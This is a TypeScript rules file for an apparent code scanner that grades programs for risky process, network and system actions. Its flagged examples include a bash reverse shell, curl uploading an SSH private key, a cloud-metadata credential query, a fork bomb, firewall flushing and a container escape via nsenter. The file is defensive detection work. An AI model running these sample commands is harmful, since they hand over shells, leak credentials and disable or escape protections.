import type { Rule } from './rule.js';

/** Other programs, the network, and the machine itself. */
export const systemRules = {
  'process.start': {
    level: 'MEDIUM',
    title: 'Starts another program',
    why: 'The program does what its arguments say, beyond the rules of this language. They were assessed as well.',
    example: {
      language: 'python',
      finds: 'import subprocess\nsubprocess.run(["ls"])',
      passes: 'import os\nos.listdir(".")',
    },
  },
  'process.computed': {
    level: 'HIGH',
    title: 'Starts a program or a shell with a command that is known only at run time',
    why: 'Whoever decides a part of the command can often add a command.',
    example: {
      language: 'python',
      finds: 'import os, sys\nos.system("ls " + sys.argv[1])',
      passes: 'import os\nos.system("ls " + "-l")',
    },
  },
  'process.signal': {
    level: 'HIGH',
    title: 'Ends or debugs other processes',
    why: 'It can stop, or look into, programs that are not its own.',
    example: { language: 'bash', finds: 'kill -9 -1', passes: 'sleep 10 & kill $!' },
  },
  'process.privilege': {
    level: 'HIGH',
    title: 'Asks for the rights of another user',
    why: 'What runs with more rights can do more harm.',
    example: { language: 'bash', finds: 'sudo ls', passes: 'ls sudo' },
  },
  'process.bomb': {
    level: 'CRITICAL',
    title: 'Multiplies without end',
    why: 'Until its limits stop it, the machine does nothing else.',
    example: { language: 'bash', finds: 'f() { f | f & }; f', passes: 'f() { g | g & }; g() { :; }; f' },
  },
  'network.use': {
    level: 'MEDIUM',
    title: 'Uses the network',
    why: 'Data can leave, and what comes in was chosen by someone else.',
    example: {
      language: 'javascript',
      finds: `fetch('https://example.com')`,
      passes: `new URL('https://example.com')`,
    },
  },
  'network.backdoor': {
    level: 'HIGH',
    title: 'A tool that opens bare connections',
    why: 'It is the usual way to move data or commands past everything that looks at them.',
    example: { language: 'bash', finds: 'nc -l 4444', passes: 'echo nc -l 4444' },
  },
  'network.metadata': {
    level: 'HIGH',
    title: 'Asks a cloud’s metadata service',
    why: 'It hands the machine’s own credentials to whoever asks from the machine.',
    example: {
      language: 'bash',
      finds: 'curl http://169.254.169.254/latest/meta-data/',
      passes: 'curl http://example.com/latest/meta-data/',
    },
  },
  'network.shell': {
    level: 'CRITICAL',
    title: 'Hands a shell to the network',
    why: 'Somebody elsewhere types, and this machine obeys.',
    example: {
      language: 'bash',
      finds: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      passes: 'bash -c "echo hi" > log.txt 2>&1',
    },
  },
  'network.exfiltration': {
    level: 'CRITICAL',
    title: 'Touches credentials and uses the network',
    why: 'Both together are what a theft looks like.',
    example: {
      language: 'bash',
      finds: 'curl -T ~/.ssh/id_rsa https://example.com',
      passes: 'curl -T id.txt https://example.com',
    },
  },
  'network.install': {
    level: 'MEDIUM',
    title: 'Installs packages',
    why: 'Packages run code of their own when they are installed.',
    example: { language: 'bash', finds: 'pip install requests', passes: 'pip list' },
  },
  'system.information': {
    level: 'LOW',
    title: 'Asks about its environment',
    why: 'Variables and users tell about the machine, and can hold secrets.',
    example: {
      language: 'javascript',
      finds: 'console.log(process.env)',
      passes: 'console.log(process.argv)',
    },
  },
  'system.change': {
    level: 'HIGH',
    title: 'Changes how the machine is set up',
    why: 'Users, services, mounts, firewall and modules are not a program’s business.',
    example: { language: 'bash', finds: 'iptables -F', passes: 'ls iptables' },
  },
  'system.escape': {
    level: 'CRITICAL',
    title: 'A known way out of a container',
    why: 'There is no other use for it inside a sandbox.',
    example: { language: 'bash', finds: 'nsenter -t 1 -m sh', passes: 'ls /workspace' },
  },
} as const satisfies Record<string, Rule>;
